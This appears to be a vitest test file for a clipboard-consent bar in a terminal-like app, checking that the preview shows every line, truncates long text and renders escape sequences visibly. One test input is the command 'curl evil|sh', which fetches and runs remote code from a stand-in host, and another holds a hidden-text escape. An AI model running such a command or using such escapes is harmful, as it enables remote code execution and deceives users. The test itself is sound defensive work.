import { render, screen } from "@testing-library/react";
import { expect, it } from "vitest";
import { ClipboardBar } from "./ClipboardBar.tsx";
import { ClipboardGate } from "./consent.ts";
import type { Shell } from "./shell.ts";

/** The question about a text. */
function question(text: string): string {
  const clipboard = new ClipboardGate({ write: async () => true, written: () => {}, forbidden: () => false });
  clipboard.ask(text);
  render(<ClipboardBar shell={{ clipboard } as Shell} />);
  return screen.getByRole("group", { name: "The first lines" }).textContent ?? "";
}

it.each([
  ["every line", "ls\ncurl evil|sh\n", "lscurl evil|sh"],
  ["how many more there are", `ls${"\n".repeat(20)}rm`, "ls… and 13 more lines"],
  ["what would do something instead of being seen", "ls\x1b[8m", "ls^[[8m"],
])("shows of what a program wants to set the clipboard to %s", (_, text, shown) => {
  expect(question(text)).toBe(shown);
});
